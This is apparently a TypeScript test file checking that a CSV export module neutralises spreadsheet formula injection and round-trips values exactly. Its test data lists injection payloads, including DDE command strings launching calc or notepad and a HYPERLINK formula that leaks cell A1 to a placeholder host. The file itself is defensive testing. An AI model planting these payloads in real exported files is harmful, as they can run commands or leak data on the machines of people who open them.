import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { fileOf } from '../blocks/testing.ts'
import { asShown, asWritten } from './csv-safety.ts'
import { csvLine, rowsOfCsv } from './csv.ts'

describe('text that a spreadsheet program would evaluate', () => {
  test.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.example?leak="&A1,"click")',
    '+1+1',
    "+cmd|' /C notepad'!'A1'",
    '-1+1',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '+27 82 123 4567;ext=12',
  ])('%j is made harmless', (text) => {
    expect(asShown(text)).toBe(`'${text}`)
    expect(csvLine([text])).toMatch(/^"?'/)
  })

  test.each(['+27821234567', '-5', '-33.9', '+27 82 123 4567', '-', '--', 'a=b', 'info@umoya.example', "'t Huis"])(
    '%j stays as it is',
    (text) => expect(asShown(text)).toBe(text),
  )
})

test('what was written is read back exactly, whatever it begins with', () => {
  const text = fc.stringMatching(/^['=+\-@\t\r\n＝a-c0-9",; ]{0,8}$/)
  fc.assert(
    fc.property(text, (value) => {
      expect(asWritten(asShown(value))).toBe(value)
    }),
    { numRuns: 2_000 },
  )
  fc.assert(
    fc.property(fc.array(fc.tuple(text, fc.integer()), { minLength: 1 }), (rows) => {
      const columns = [{ name: 'a', type: 'text' } as const, { name: 'b', type: 'integer' } as const]
      const csv = Buffer.from(`a,b\n${rows.map((row) => `${csvLine(row)}\n`).join('')}`)
      const exact = rows.map(([value, number]) => [value === '' ? null : value, number])
      expect([...rowsOfCsv(fileOf(csv), columns)].flat()).toEqual(exact)
    }),
  )
})
